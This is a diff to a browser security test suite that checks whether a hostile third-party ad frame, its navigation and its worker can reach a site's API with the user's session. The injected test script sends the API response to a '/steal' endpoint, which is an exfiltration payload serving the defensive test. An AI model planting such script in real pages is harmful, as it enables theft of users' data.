@@ -80,7 +80,9 @@ before(async () => {
     html(
       'Ad',
       `<script>fetch('${site.url}/api?from=frame').then((r) => r.text())
-         .then((t) => fetch('/steal?v=' + encodeURIComponent(t))); new Worker('/worker.js');</script>`,
+         .then((t) => fetch('/steal?v=' + encodeURIComponent(t)))
+         .then(() => { location.href = '${site.url}/api?from=frame-navigation'; });
+       new Worker('/worker.js');</script>`,
     ),
   );
   hostile.route('/worker.js', (_req, res) =>
@@ -183,6 +185,9 @@ describe('browser credentials', { skip, timeout: 300_000 }, () => {
     const frame = seen.find((s) => s.url === '/api?from=frame');
     assert.ok(frame, "the frame did not call the site's API");
     assert.ok(!carries(frame), "the third-party frame's request carried the session");
+    const navigated = seen.find((s) => s.url === '/api?from=frame-navigation');
+    if (navigated)
+      assert.ok(!carries(navigated), 'the third-party frame navigated itself to the site with the session');
     const fromWorker = seen.find((s) => s.url === '/api?from=worker');
     // A frame's worker does not always start within the render: its request is checked when it came.
     if (fromWorker) assert.ok(!carries(fromWorker), "the third-party worker's request carried the session");
